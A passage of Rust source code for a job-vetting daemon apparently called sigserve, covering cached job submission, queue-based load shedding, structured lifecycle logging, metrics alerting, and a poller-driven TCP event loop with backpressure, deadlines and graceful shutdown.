        },
    };
    let id = shared.next_job_id();
    let key = cache_key(&source, &shared.config_canon);
    if let Some((core, producer)) = shared.lock_cache().get(key) {
        shared.metrics.add("serve_cache_hits", 1);
        shared.log_event(
            Level::Info,
            "cache_hit",
            &[
                ("job", Json::from(id.as_str())),
                ("name", name.as_deref().map(Json::from).unwrap_or(Json::Null)),
                ("producer", Json::from(producer)),
            ],
        );
        let micros = t0.elapsed().as_micros();
        let resp = vet_response(&core, name.as_deref(), Some(&id), true, micros);
        shared.log_event(
            Level::Info,
            "job_done",
            &[
                ("job", Json::from(id.as_str())),
                ("micros", Json::from(micros as f64)),
                ("cached", Json::Bool(true)),
            ],
        );
        return Submitted::Ready(resp);
    }
    shared.metrics.add("serve_cache_misses", 1);
    // Shed *before* logging the lifecycle: under sustained overload the
    // rejected stream must cost at most one (sampled) `job_rejected`
    // line per job, not an `enqueued` + `rejected` pair — otherwise the
    // log amplifies the very overload it is narrating. The pre-check is
    // advisory (a racing push can still hit Full below); that rare path
    // keeps the enqueued-then-rejected pair, which replay accepts.
    if shared.queue.is_full() {
        Stats::incr(&shared.stats.jobs_rejected);
        shared.log_event(
            Level::Warn,
            "job_rejected",
            &[
                ("job", Json::from(id.as_str())),
                ("reason", Json::from("overloaded")),
            ],
        );
        return Submitted::Ready(overloaded_response(
            name.as_deref(),
            shared.queue.len(),
            shared.queue.capacity(),
        ));
    }
    // Log admission *before* try_push: once the job is in the queue a
    // worker can dequeue it immediately, and the log's seq order must
    // match the lifecycle order (enqueued < dequeued).
    shared.log_event(
        Level::Info,
        "job_enqueued",
        &[
            ("job", Json::from(id.as_str())),
            ("name", name.as_deref().map(Json::from).unwrap_or(Json::Null)),
            ("queue_depth", Json::from(shared.queue.len() as f64)),
        ],
    );
    let resp = make_resp();
    match shared.queue.try_push(Job {
        id: id.clone(),
        key,
        source,
        resp,
        enq: Instant::now(),
    }) {
        Ok(_) => {
            Stats::incr(&shared.stats.jobs_accepted);
            shared
                .metrics
                .record("serve_queue_depth", shared.queue.len() as u64);
            Submitted::Enqueued { id, name, t0 }
        }
        Err(PushError::Full(_)) => {
            Stats::incr(&shared.stats.jobs_rejected);
            shared.log_event(
                Level::Warn,
                "job_rejected",
                &[
                    ("job", Json::from(id.as_str())),
                    ("reason", Json::from("overloaded")),
                ],
            );
            Submitted::Ready(overloaded_response(
                name.as_deref(),
                shared.queue.len(),
                shared.queue.capacity(),
            ))
        }
        Err(PushError::ShutDown(_)) => {
            Stats::incr(&shared.stats.jobs_rejected);
            shared.log_event(
                Level::Warn,
                "job_rejected",
                &[
                    ("job", Json::from(id.as_str())),
                    ("reason", Json::from("shutting_down")),
                ],
            );
            Submitted::Ready(error_response("daemon is shutting down"))
        }
    }
}

/// The blocking submission wrapper (stdio front end, unit tests): the
/// completion path is an mpsc channel the caller receives on.
fn submit_vet(shared: &Shared, item: VetItem) -> PendingVet {
    let mut rx_slot: Option<mpsc::Receiver<Json>> = None;
    let submitted = {
        let mut make = || {
            let (tx, rx) = mpsc::channel();
            rx_slot = Some(rx);
            Completion::Channel(tx)
        };
        submit_vet_with(shared, item, &mut make)
    };
    match submitted {
        Submitted::Ready(resp) => PendingVet::Ready(resp),
        Submitted::Enqueued { id, name, t0 } => PendingVet::Waiting {
            id,
            name,
            rx: rx_slot.expect("completion channel created at enqueue"),
            t0,
        },
    }
}

/// Wraps a finished core into the `vet_result` response and writes the
/// terminal `job_done` lifecycle record. Shared by the blocking await
/// path and the event loop's completion handler.
fn finish_vet(shared: &Shared, id: &str, name: Option<&str>, t0: Instant, core: &Json) -> Json {
    let micros = t0.elapsed().as_micros();
    let resp = vet_response(core, name, Some(id), false, micros);
    shared.log_event(
        Level::Info,
        "job_done",
        &[
            ("job", Json::from(id)),
            ("micros", Json::from(micros as f64)),
            ("cached", Json::Bool(false)),
        ],
    );
    resp
}

fn await_vet(shared: &Shared, pending: PendingVet) -> Json {
    match pending {
        PendingVet::Ready(resp) => resp,
        PendingVet::Waiting { id, name, rx, t0 } => match rx.recv() {
            Ok(core) => finish_vet(shared, &id, name.as_deref(), t0, &core),
            Err(_) => error_response("worker pool shut down before the job finished"),
        },
    }
}

fn with_kind(kind: &str, body: Json) -> Json {
    let mut o = Json::obj();
    o.set("kind", Json::from(kind));
    if let Json::Obj(entries) = body {
        for (k, v) in entries {
            o.set(&k, v);
        }
    }
    o
}

/// Handles one parsed request. The bool says "this was a shutdown":
/// the caller writes the response first, then tears the daemon down.
fn respond(shared: &Shared, req: Result<Request, String>) -> (Json, bool) {
    match req {
        Err(msg) => {
            Stats::incr(&shared.stats.protocol_errors);
            shared.log_event(
                Level::Warn,
                "protocol_error",
                &[("error", Json::from(msg.as_str()))],
            );
            (error_response(&msg), false)
        }
        Ok(Request::Vet(item)) => (await_vet(shared, submit_vet(shared, item)), false),
        Ok(Request::VetBatch(items)) => {
            // Submit everything first so the batch saturates the worker
            // pool; items beyond the queue bound come back `overloaded`.
            let pending: Vec<PendingVet> =
                items.into_iter().map(|i| submit_vet(shared, i)).collect();
            let results: Vec<Json> = pending
                .into_iter()
                .map(|p| await_vet(shared, p))
                .collect();
            let mut o = Json::obj();
            o.set("kind", Json::from("vet_batch_result"));
            o.set("results", Json::Arr(results));
            (o, false)
        }
        Ok(Request::Stats) => (with_kind("stats", shared.stats_body()), false),
        Ok(Request::Metrics) => {
            let text = sigobs::prometheus_text(&shared.merged_snapshot());
            // Our own renderer must always validate; the sample count is
            // a convenience for scripted smoke tests.
            let samples = sigobs::validate_prometheus_text(&text).unwrap_or(0);
            (metrics_response(&text, samples), false)
        }
        Ok(Request::Shutdown) => {
            shared.log_event(Level::Info, "serve_shutdown", &[]);
            let mut o = Json::obj();
            o.set("kind", Json::from("shutdown_ack"));
            o.set("stats", shared.stats_body());
            (o, true)
        }
    }
}

/// Flips the daemon into shutdown: no new jobs, workers drain and exit,
/// and the event loop (if any) is woken so it can drain connections.
fn initiate_shutdown(shared: &Shared) {
    if shared.shutting_down.swap(true, Ordering::SeqCst) {
        return; // someone else already did
    }
    shared.queue.shutdown();
    if let Some(completions) = &shared.completions {
        completions.wake();
    }
}

/// The blocking protocol loop (stdio front end): read request lines,
/// write response lines. Returns `true` if the peer requested shutdown
/// (vs. just disconnecting).
fn serve_lines(
    shared: &Shared,
    reader: impl BufRead,
    mut writer: impl Write,
) -> io::Result<bool> {
    for line in reader.lines() {
        let line = line?;
        if line.trim().is_empty() {
            continue;
        }
        let (resp, is_shutdown) = respond(shared, parse_request(&line));
        // Single write per response line (see Client::raw_line: split
        // writes interact badly with Nagle + delayed ACK).
        let mut framed = resp.to_string_compact();
        framed.push('\n');
        writer.write_all(framed.as_bytes())?;
        writer.flush()?;
        if is_shutdown {
            initiate_shutdown(shared);
            return Ok(true);
        }
    }
    Ok(false)
}

fn spawn_workers(shared: &Arc<Shared>) -> Vec<JoinHandle<()>> {
    (0..shared.workers)
        .map(|i| {
            let shared = Arc::clone(shared);
            std::thread::Builder::new()
                .name(format!("sigserve-worker-{i}"))
                .spawn(move || worker_loop(&shared))
                .expect("spawn worker thread")
        })
        .collect()
}

/// The `serve_started` log record both front ends emit once the pool is
/// up, so a log file identifies the daemon configuration it narrates.
fn log_started(shared: &Shared) {
    shared.log_event(
        Level::Info,
        "serve_started",
        &[
            ("workers", Json::from(shared.workers as f64)),
            ("queue_cap", Json::from(shared.queue.capacity() as f64)),
            (
                "cache_cap",
                Json::from(shared.lock_cache().counters().capacity as f64),
            ),
        ],
    );
}

/// The in-daemon alerting state: which rule names are currently firing.
/// After each snapshot lands in the history ring, the history thread
/// re-evaluates the configured rules over the on-disk window and emits
/// one `alert_fired` (warn) per newly violated rule and one
/// `alert_cleared` (info) per rule that stopped violating -- edges, not
/// levels, so a long-running breach is one log record, not one per
/// snapshot.
fn evaluate_alerts(
    shared: &Shared,
    dir: &std::path::Path,
    rules: &sigobs::alerts::AlertRules,
    firing: &mut std::collections::BTreeSet<String>,
) {
    let records = match sigobs::MetricsHistory::load(dir) {
        Ok(r) => r,
        Err(e) => {
            shared.log_event(
                Level::Warn,
                "metrics_history_error",
                &[("error", Json::from(format!("{e}")))],
            );
            return;
        }
    };
    let report = sigobs::alerts::evaluate(rules, &records);
    for outcome in &report.outcomes {
        let name = outcome.rule.name.as_str();
        if outcome.violated && !firing.contains(name) {
            firing.insert(name.to_owned());
            let value = outcome.value.map_or(Json::Null, Json::from);
            let bound = match (outcome.rule.min, outcome.rule.max) {
                (Some(lo), _) if outcome.value.is_some_and(|v| v < lo) => Json::from(lo),
                (_, Some(hi)) => Json::from(hi),
                (Some(lo), None) => Json::from(lo),
                (None, None) => Json::Null,
            };
            shared.log_event(
                Level::Warn,
                "alert_fired",
                &[("rule", Json::from(name)), ("value", value), ("bound", bound)],
            );
        } else if !outcome.violated && firing.remove(name) {
            shared.log_event(Level::Info, "alert_cleared", &[("rule", Json::from(name))]);
        }
    }
}

/// Spawns the metrics-history thread when `--metrics-dir` is configured:
/// it appends a merged snapshot to the on-disk ring every
/// `metrics_interval`, plus one final snapshot at shutdown, and polls
/// the shutdown flag often enough that daemon teardown is prompt. With
/// alert rules configured, each appended snapshot is followed by an
/// alerting pass over the recorded window.
fn spawn_history(shared: &Arc<Shared>) -> Option<JoinHandle<()>> {
    let dir = shared.metrics_dir.clone()?;
    let shared = Arc::clone(shared);
    let handle = std::thread::Builder::new()
        .name("sigserve-history".to_owned())
        .spawn(move || {
            let mut history = match sigobs::MetricsHistory::open(&dir, shared.metrics_history_cap)
            {
                Ok(h) => h,
                Err(e) => {
                    shared.log_event(
                        Level::Error,
                        "metrics_history_error",
                        &[("error", Json::from(format!("{e}")))],
                    );
                    return;
                }
            };
            let mut firing = std::collections::BTreeSet::new();
            let poll = Duration::from_millis(25);
            loop {
                let interval_start = Instant::now();
                while interval_start.elapsed() < shared.metrics_interval {
                    if shared.shutting_down.load(Ordering::SeqCst) {
                        let _ = history.append(&shared.merged_snapshot());
                        if let Some(rules) = &shared.alert_rules {
                            evaluate_alerts(&shared, &dir, rules, &mut firing);
                        }
                        return;
                    }
                    std::thread::sleep(poll.min(shared.metrics_interval));
                }
                if let Err(e) = history.append(&shared.merged_snapshot()) {
                    shared.log_event(
                        Level::Warn,
                        "metrics_history_error",
                        &[("error", Json::from(format!("{e}")))],
                    );
                } else if let Some(rules) = &shared.alert_rules {
                    evaluate_alerts(&shared, &dir, rules, &mut firing);
                }
            }
        })
        .expect("spawn history thread");
    Some(handle)
}

// ---------------------------------------------------------------------
// The event loop
// ---------------------------------------------------------------------

/// Poller token for the TCP listener.
const LISTENER_TOKEN: u64 = 0;
/// Poller token for the completion-queue waker pipe.
const WAKER_TOKEN: u64 = 1;
/// First token handed to an accepted connection.
const FIRST_CONN_TOKEN: u64 = 2;

/// How long a draining shutdown waits for connections to flush before
/// force-closing them.
const DRAIN_GRACE: Duration = Duration::from_secs(5);

/// An in-flight vet item on a connection: the slot in the response
/// pipeline a posted completion (or a fired deadline) will fill.
struct VetWait {
    /// Completion-queue token (distinct from the `j-<n>` request ID).
    token: u64,
    id: String,
    name: Option<String>,
    t0: Instant,
    deadline: Option<Instant>,
}

/// One position in a connection's ordered response pipeline.
enum Part {
    /// Serialized compact response line (no trailing newline).
    Done(String),
    /// Still in the worker pool.
    Wait(VetWait),
}

/// One request's worth of response: a single line, or a batch whose
/// items flush together as one `vet_batch_result` line.
enum Slot {
    One(Part),
    Batch(Vec<Part>),
}

impl Slot {
    fn parts(&self) -> &[Part] {
        match self {
            Slot::One(p) => std::slice::from_ref(p),
            Slot::Batch(v) => v.as_slice(),
        }
    }

    fn parts_mut(&mut self) -> &mut [Part] {
        match self {
            Slot::One(p) => std::slice::from_mut(p),
            Slot::Batch(v) => v.as_mut_slice(),
        }
    }

    fn ready(&self) -> bool {
        self.parts().iter().all(|p| matches!(p, Part::Done(_)))
    }
}

/// Per-connection state owned by the event loop.
struct Conn {
    stream: TcpStream,
    /// Connection ID (`c-<n>`) for log correlation.
    cid: String,
    rbuf: LineBuf,
    wbuf: WriteBuf,
    /// Responses in request order; the head flushes once fully `Done`.
    pending: VecDeque<Slot>,
    /// Bytes of `Done` parts not yet folded into `wbuf` (backpressure
    /// accounting: `wbuf.queued() + pending_bytes` is what this client
    /// owes us to read).
    pending_bytes: usize,
    last_activity: Instant,
    /// Interest currently registered with the poller.
    interest: Interest,
    /// Peer sent EOF (half-close): stop reading, flush what's owed.
    peer_eof: bool,
    /// Set when the connection should close after draining its output
    /// (shutdown ack written, protocol violation answered, ...).
    closing: Option<&'static str>,
    /// Set when the connection must close *now*, unflushed.
    kill: Option<&'static str>,
    /// Edge flag so a backpressure episode logs once, not per item.
    backpressured: bool,
    /// Lifetime bytes read off this socket (reported on `conn_closed`
    /// so timeline reconstruction can cross-check framing totals; the
    /// write side lives in [`WriteBuf::written`]).
    bytes_read: u64,
    /// Requests this connection submitted (parsed non-empty lines).
    requests: u64,
}

impl Conn {
    fn new(stream: TcpStream, cid: String, max_line: usize) -> Conn {
        Conn {
            stream,
            cid,
            rbuf: LineBuf::new(max_line),
            wbuf: WriteBuf::new(),
            pending: VecDeque::new(),
            pending_bytes: 0,
            last_activity: Instant::now(),
            interest: Interest::READ,
            peer_eof: false,
            closing: None,
            kill: None,
            backpressured: false,
            bytes_read: 0,
            requests: 0,
        }
    }
}

fn push_done(conn: &mut Conn, resp: &Json) {
    let s = resp.to_string_compact();
    conn.pending_bytes += s.len() + 1;
    conn.pending.push_back(Slot::One(Part::Done(s)));
}

/// The readiness-driven connection core: one thread, one poller, all
/// TCP connections.
struct EventLoop {
    shared: Arc<Shared>,
    poller: Poller,
    listener: TcpListener,
    wake_rx: WakeRx,
    completions: Arc<CompletionQueue>,
    conns: HashMap<u64, Conn>,
    /// Completion token → owning connection token.
    jobs: HashMap<u64, u64>,
    /// Jobs whose connection is gone or whose deadline already answered:
    /// the eventual completion still writes the terminal `job_done`.
    late: HashMap<u64, (String, Instant)>,
    next_conn_token: u64,
    conn_seq: u64,
    next_job_token: u64,
    drain_deadline: Option<Instant>,
}

impl EventLoop {
    fn new(
        shared: Arc<Shared>,
        poller: Poller,
        listener: TcpListener,
        wake_rx: WakeRx,
        completions: Arc<CompletionQueue>,
    ) -> EventLoop {
        EventLoop {
            shared,
            poller,
            listener,
            wake_rx,
            completions,
            conns: HashMap::new(),
            jobs: HashMap::new(),
            late: HashMap::new(),
            next_conn_token: FIRST_CONN_TOKEN,
            conn_seq: 0,
            next_job_token: 0,
            drain_deadline: None,
        }
    }

    fn run(&mut self) -> io::Result<()> {
        self.poller
            .register(self.listener.as_raw_fd(), LISTENER_TOKEN, Interest::READ)?;
        self.poller
            .register(self.wake_rx.fd(), WAKER_TOKEN, Interest::READ)?;
        let mut events: Vec<poller::Event> = Vec::new();
        loop {
            let timeout = self.wait_timeout();
            self.poller.wait(&mut events, timeout)?;
            let batch: Vec<poller::Event> = events.drain(..).collect();
            for ev in batch {
                match ev.token {
                    LISTENER_TOKEN => self.accept_ready(),
                    WAKER_TOKEN => self.wake_rx.drain(),
                    token => self.conn_event(token, ev),
                }
            }
            self.apply_completions();
            self.apply_timers();
            if self.shared.shutting_down.load(Ordering::SeqCst) {
                self.begin_drain();
                let hard = self.drain_deadline.is_some_and(|d| Instant::now() >= d);
                if self.conns.is_empty() && (self.late.is_empty() || hard) {
                    return Ok(());
                }
            }
        }
    }

    /// The park duration: indefinite unless some timer needs servicing.
    /// Timers tick at a quarter of their bound (clamped) rather than
    /// tracking exact next-expiry — cheap, and precise enough for
    /// second-scale idle timeouts and millisecond-scale deadlines.
    fn wait_timeout(&self) -> Option<Duration> {
        fn tick(bound: Duration) -> Duration {
            (bound / 4).clamp(Duration::from_millis(1), Duration::from_millis(250))
        }
        let mut timeout: Option<Duration> = None;
        let mut merge = |d: Duration| {
            timeout = Some(timeout.map_or(d, |t: Duration| t.min(d)));
        };
        if self.drain_deadline.is_some() {
            merge(Duration::from_millis(25));
        }
        if let Some(idle) = self.shared.idle_timeout {
            if !self.conns.is_empty() {
                merge(tick(idle));
            }
        }
        if let Some(deadline) = self.shared.request_deadline {
            if !self.jobs.is_empty() {
                merge(tick(deadline));
            }
        }
        timeout
    }

    fn accept_ready(&mut self) {
        loop {
            match self.listener.accept() {
                Ok((stream, peer)) => {
                    if self.shared.shutting_down.load(Ordering::SeqCst) {
                        // Draining: refuse by immediate close.
                        drop(stream);
                        continue;
                    }
                    if stream.set_nodelay(true).is_err() || stream.set_nonblocking(true).is_err()
                    {
                        continue;
                    }
                    let token = self.next_conn_token;
                    self.next_conn_token += 1;
                    let cid = format!("c-{}", self.conn_seq);
                    self.conn_seq += 1;
                    if self
                        .poller
                        .register(stream.as_raw_fd(), token, Interest::READ)
                        .is_err()
                    {
                        continue;
                    }
                    Stats::incr(&self.shared.stats.conn_accepted);
                    self.shared.stats.conns_open.fetch_add(1, Ordering::Relaxed);
                    self.shared.log_event(
                        Level::Debug,
                        "conn_accepted",
                        &[
                            ("conn", Json::from(cid.as_str())),
                            ("peer", Json::from(peer.to_string())),
                        ],
                    );
                    self.conns
                        .insert(token, Conn::new(stream, cid, self.shared.max_line_bytes));
                }
                Err(e) if e.kind() == io::ErrorKind::WouldBlock => break,
                Err(e) if e.kind() == io::ErrorKind::Interrupted => continue,
                // Transient accept errors (EMFILE, aborted handshake):
                // stop for this readiness round; the listener reports
                // again when another connection is pending.
                Err(_) => break,
            }
        }
    }

    fn conn_event(&mut self, token: u64, ev: poller::Event) {
        let Some(mut conn) = self.conns.remove(&token) else {
            return;
        };
        if ev.readable || ev.closed {
            self.read_ready(&mut conn);
            self.process_lines(token, &mut conn);
            // Guard against a pure-error readiness state (e.g. EPOLLERR
            // with nothing readable) spinning the loop: treat it as a
            // peer hangup once buffered input is consumed.
            if ev.closed && !conn.peer_eof && conn.kill.is_none() {
                conn.peer_eof = true;
            }
        }
        self.settle(token, conn);
    }

    fn read_ready(&mut self, conn: &mut Conn) {
        let mut chunk = [0u8; 16 * 1024];
        loop {
            match conn.stream.read(&mut chunk) {
                Ok(0) => {
                    conn.peer_eof = true;
                    break;
                }
                Ok(n) => {
                    conn.last_activity = Instant::now();
                    conn.bytes_read += n as u64;
                    if !conn.rbuf.extend(&chunk[..n]) {
                        Stats::incr(&self.shared.stats.protocol_errors);
                        self.shared.log_event(
                            Level::Warn,
                            "protocol_error",
                            &[("error", Json::from("request line exceeds maximum length"))],
                        );
                        push_done(conn, &error_response("request line exceeds maximum length"));
                        conn.closing.get_or_insert("protocol");
                        break;
                    }
                }
                Err(e) if e.kind() == io::ErrorKind::WouldBlock => break,
                Err(e) if e.kind() == io::ErrorKind::Interrupted => continue,
                Err(_) => {
                    conn.kill = Some("io_error");
                    break;
                }
            }
        }
    }

    fn process_lines(&mut self, token: u64, conn: &mut Conn) {
        while conn.closing.is_none() && conn.kill.is_none() {
            match conn.rbuf.next_line() {
                None => break,
                Some(Err(_)) => {
                    // Non-UTF-8 bytes ended the blocking server's
                    // connection without a response; match that.
                    conn.kill = Some("protocol");
                    break;
                }
                Some(Ok(line)) => {
                    if line.trim().is_empty() {
                        continue;
                    }
                    conn.last_activity = Instant::now();
                    self.handle_line(token, conn, &line);
                }
            }
        }
    }

    fn handle_line(&mut self, token: u64, conn: &mut Conn, line: &str) {
        let shared = Arc::clone(&self.shared);
        conn.requests += 1;
        // Hard cap: a client this far behind on reading is not exerting
        // backpressure anymore, it is a memory leak. Close it.
        let owed = conn.wbuf.queued() + conn.pending_bytes;
        if owed > shared.outbuf_cap.saturating_mul(4) {
            shared.log_event(
                Level::Warn,
                "write_backpressure",
                &[
                    ("conn", Json::from(conn.cid.as_str())),
                    ("queued_bytes", Json::from(owed as f64)),
                    ("action", Json::from("close")),
                ],
            );
            conn.kill = Some("write_backpressure");
            return;
        }
        match parse_request(line) {
            Err(msg) => {
                Stats::incr(&shared.stats.protocol_errors);
                shared.log_event(
                    Level::Warn,
                    "protocol_error",
                    &[("error", Json::from(msg.as_str()))],
                );
                push_done(conn, &error_response(&msg));
            }
            Ok(Request::Vet(item)) => {
                let part = self.vet_part(token, conn, item);
                conn.pending.push_back(Slot::One(part));
            }
            Ok(Request::VetBatch(items)) => {
                // Submit everything first so the batch saturates the
                // worker pool; items beyond the queue bound come back
                // `overloaded`.
                let parts: Vec<Part> = items
                    .into_iter()
                    .map(|i| self.vet_part(token, conn, i))
                    .collect();
                conn.pending.push_back(Slot::Batch(parts));
            }
            Ok(Request::Stats) => push_done(conn, &with_kind("stats", shared.stats_body())),
            Ok(Request::Metrics) => {
                let text = sigobs::prometheus_text(&shared.merged_snapshot());
                let samples = sigobs::validate_prometheus_text(&text).unwrap_or(0);
                push_done(conn, &metrics_response(&text, samples));
            }
            Ok(Request::Shutdown) => {
                shared.log_event(Level::Info, "serve_shutdown", &[]);
                let mut o = Json::obj();
                o.set("kind", Json::from("shutdown_ack"));
                o.set("stats", shared.stats_body());
                push_done(conn, &o);
                conn.closing.get_or_insert("shutdown");
                initiate_shutdown(&shared);
            }
        }
    }

    /// Submits one vet item from a connection: shed under write
    /// backpressure, answer immediately when possible, otherwise park a
    /// [`VetWait`] the completion (or deadline) will fill.
    fn vet_part(&mut self, conn_token: u64, conn: &mut Conn, item: VetItem) -> Part {
        let shared = Arc::clone(&self.shared);
        let owed = conn.wbuf.queued() + conn.pending_bytes;
        if owed >= shared.outbuf_cap {
            // Soft cap: the client owes us reads before it may submit
            // more work. Typed response, one log line per episode.
            Stats::incr(&shared.stats.conn_backpressure_sheds);
            if !conn.backpressured {
                conn.backpressured = true;
                shared.log_event(
                    Level::Warn,
                    "write_backpressure",
                    &[
                        ("conn", Json::from(conn.cid.as_str())),
                        ("queued_bytes", Json::from(owed as f64)),
                        ("capacity_bytes", Json::from(shared.outbuf_cap as f64)),
                    ],
                );
            }
            let resp = backpressure_response(item.name.as_deref(), owed, shared.outbuf_cap);
            let s = resp.to_string_compact();
            conn.pending_bytes += s.len() + 1;
            return Part::Done(s);
        }
        let job_token = self.next_job_token;
        self.next_job_token += 1;
        let completions = Arc::clone(&self.completions);
        let submitted = {
            let mut make = || Completion::Posted {
                token: job_token,
                queue: Arc::clone(&completions),
            };
            submit_vet_with(&shared, item, &mut make)
        };
        match submitted {
            Submitted::Ready(resp) => {
                let s = resp.to_string_compact();
                conn.pending_bytes += s.len() + 1;
                Part::Done(s)
            }
            Submitted::Enqueued { id, name, t0 } => {
                self.jobs.insert(job_token, conn_token);
                Part::Wait(VetWait {
                    token: job_token,
                    id,
                    name,
                    t0,
                    deadline: shared.request_deadline.map(|d| t0 + d),
                })
            }
        }
    }

    /// Routes drained completions to their waiting connection slots (or
    /// to the terminal-log-only `late` path) and flushes touched conns.
    fn apply_completions(&mut self) {
        let batch = self.completions.drain();
        if batch.is_empty() {
            return;
        }
        let shared = Arc::clone(&self.shared);
        let mut touched: Vec<u64> = Vec::new();
        for (token, core) in batch {
            if let Some((id, t0)) = self.late.remove(&token) {
                // Connection gone or deadline already answered: the
                // response bytes have nowhere to go, but the lifecycle
                // still terminates for replay.
                let _ = finish_vet(&shared, &id, None, t0, &core);
                continue;
            }
            let Some(conn_token) = self.jobs.remove(&token) else {
                continue;
            };
            let Some(conn) = self.conns.get_mut(&conn_token) else {
                continue;
            };
            'fill: for slot in conn.pending.iter_mut() {
                for part in slot.parts_mut() {
                    if let Part::Wait(w) = part {
                        if w.token == token {
                            let resp =
                                finish_vet(&shared, &w.id, w.name.as_deref(), w.t0, &core);
                            let s = resp.to_string_compact();
                            conn.pending_bytes += s.len() + 1;
                            *part = Part::Done(s);
                            break 'fill;
                        }
                    }
                }
            }
            if !touched.contains(&conn_token) {
                touched.push(conn_token);
            }
        }
        for t in touched {
            if let Some(c) = self.conns.remove(&t) {
                self.settle(t, c);
            }
        }
    }

    /// Fires request deadlines, closes idle connections, and force-closes
    /// everything once the drain grace period lapses.
    fn apply_timers(&mut self) {
        let now = Instant::now();
        let shared = Arc::clone(&self.shared);
        if shared.request_deadline.is_some() && !self.jobs.is_empty() {
            let deadline_ms =
                shared.request_deadline.map_or(0.0, |d| d.as_millis() as f64);
            let mut touched: Vec<u64> = Vec::new();
            for (&token, conn) in self.conns.iter_mut() {
                let mut fired = false;
                for slot in conn.pending.iter_mut() {
                    for part in slot.parts_mut() {
                        let Part::Wait(w) = part else { continue };
                        if !w.deadline.is_some_and(|d| now >= d) {
                            continue;
                        }
                        // The client gets a typed timeout *now*; the
                        // worker keeps running and its completion takes
                        // the `late` path (terminal log, result cached).
                        Stats::incr(&shared.stats.deadline_misses);
                        shared.log_event(
                            Level::Warn,
                            "job_deadline",
                            &[
                                ("job", Json::from(w.id.as_str())),
                                ("deadline_ms", Json::from(deadline_ms)),
                            ],
                        );
                        let mut core = Json::obj();
                        core.set("verdict", Json::from("timeout"));
                        core.set("reason", Json::from("deadline"));
                        core.set("deadline_ms", Json::from(deadline_ms));
                        let resp = vet_response(
                            &core,
                            w.name.as_deref(),
                            Some(&w.id),
                            false,
                            w.t0.elapsed().as_micros(),
                        );
                        self.jobs.remove(&w.token);
                        self.late.insert(w.token, (w.id.clone(), w.t0));
                        let s = resp.to_string_compact();
                        conn.pending_bytes += s.len() + 1;
                        *part = Part::Done(s);
                        fired = true;
                    }
                }
                if fired {
                    touched.push(token);
                }
            }
            for t in touched {
                if let Some(c) = self.conns.remove(&t) {
                    self.settle(t, c);
                }
            }
        }
        if let Some(idle) = shared.idle_timeout {
            let stale: Vec<u64> = self
                .conns
                .iter()
                .filter(|(_, c)| {
                    c.pending.is_empty()
                        && c.wbuf.is_empty()
                        && now.duration_since(c.last_activity) >= idle
                })
                .map(|(&t, _)| t)
                .collect();
            for t in stale {
                if let Some(c) = self.conns.remove(&t) {
                    self.close_conn(c, "idle");
                }
            }
        }
        if self.drain_deadline.is_some_and(|d| now >= d) {
            let all: Vec<u64> = self.conns.keys().copied().collect();
            for t in all {
                if let Some(c) = self.conns.remove(&t) {
                    self.close_conn(c, "drain_timeout");
                }
            }
        }
    }

    /// Starts the draining shutdown exactly once: every connection stops
    /// reading and closes as soon as its owed output flushes.
    fn begin_drain(&mut self) {
        if self.drain_deadline.is_some() {
            return;
        }
        self.drain_deadline = Some(Instant::now() + DRAIN_GRACE);
        let tokens: Vec<u64> = self.conns.keys().copied().collect();
        for t in tokens {
            if let Some(mut c) = self.conns.remove(&t) {
                c.closing.get_or_insert("shutdown");
                self.settle(t, c);
            }
        }
    }

    /// Folds completed head slots into the write buffer and flushes as
    /// far as the socket accepts right now.
    fn flush_ready(&mut self, conn: &mut Conn) {
        while conn.pending.front().map_or(false, Slot::ready) {
            let slot = conn.pending.pop_front().expect("checked front");
            match slot {
                Slot::One(Part::Done(s)) => {
                    conn.pending_bytes = conn.pending_bytes.saturating_sub(s.len() + 1);
                    conn.wbuf.push(s.as_bytes());
                    conn.wbuf.push(b"\n");
                }
                Slot::One(Part::Wait(_)) => unreachable!("ready() said all parts are Done"),
                Slot::Batch(parts) => {
                    // Byte-identical to the blocking server's
                    // `vet_batch_result` object (minijson compact form).
                    let mut line = String::from("{\"kind\":\"vet_batch_result\",\"results\":[");
                    for (i, part) in parts.iter().enumerate() {
                        let Part::Done(s) = part else {
                            unreachable!("ready() said all parts are Done")
                        };
                        if i > 0 {
                            line.push(',');
                        }
                        line.push_str(s);
                        conn.pending_bytes = conn.pending_bytes.saturating_sub(s.len() + 1);
                    }
                    line.push_str("]}\n");
                    conn.wbuf.push(line.as_bytes());
                }
            }
        }
        if conn.wbuf.is_empty() {
            return;
        }
        match conn.wbuf.write_to(&mut conn.stream) {
            Ok(()) => conn.last_activity = Instant::now(),
            Err(_) => {
                conn.kill = Some("io_error");
                return;
            }
        }
        if conn.backpressured
            && conn.wbuf.queued() + conn.pending_bytes <= self.shared.outbuf_cap / 2
        {
            conn.backpressured = false;
        }
    }

    /// The single exit point for a connection's event handling: flush,
    /// close if terminal, otherwise update poller interest and re-park.
    fn settle(&mut self, token: u64, mut conn: Conn) {
        if conn.kill.is_none() {
            self.flush_ready(&mut conn);
        }
        if let Some(reason) = conn.kill {
            self.close_conn(conn, reason);
            return;
        }
        let drained = conn.pending.is_empty() && conn.wbuf.is_empty();
        if drained && (conn.closing.is_some() || conn.peer_eof) {
            let reason = conn.closing.unwrap_or("eof");
            self.close_conn(conn, reason);
            return;
        }
        let want = Interest {
            read: conn.closing.is_none() && !conn.peer_eof,
            write: !conn.wbuf.is_empty(),
        };
        if want != conn.interest {
            if self
                .poller
                .reregister(conn.stream.as_raw_fd(), token, want)
                .is_err()
            {
                self.close_conn(conn, "io_error");
                return;
            }
            conn.interest = want;
        }
        self.conns.insert(token, conn);
    }

    fn close_conn(&mut self, conn: Conn, reason: &'static str) {
        let _ = self.poller.deregister(conn.stream.as_raw_fd());
        // Orphan the in-flight jobs: their completions still terminate
        // the log lifecycle through the `late` path.
        for slot in &conn.pending {
            for part in slot.parts() {
                if let Part::Wait(w) = part {
                    self.jobs.remove(&w.token);
                    self.late.insert(w.token, (w.id.clone(), w.t0));
                }
            }
        }
        Stats::incr(&self.shared.stats.conn_closed);
        self.shared.stats.conns_open.fetch_sub(1, Ordering::Relaxed);
        self.shared.log_event(
            Level::Debug,
            "conn_closed",
            &[
                ("conn", Json::from(conn.cid.as_str())),
                ("reason", Json::from(reason)),
                ("bytes_read", Json::from(conn.bytes_read as f64)),
                ("bytes_written", Json::from(conn.wbuf.written() as f64)),
                ("requests", Json::from(conn.requests as f64)),
            ],
        );
    }
}

// ---------------------------------------------------------------------
// Front ends
// ---------------------------------------------------------------------

/// A running TCP daemon. Dropping the handle does *not* stop it; send a
/// `shutdown` request (or call [`Server::stop`]) and then [`Server::join`].
pub struct Server {
    shared: Arc<Shared>,
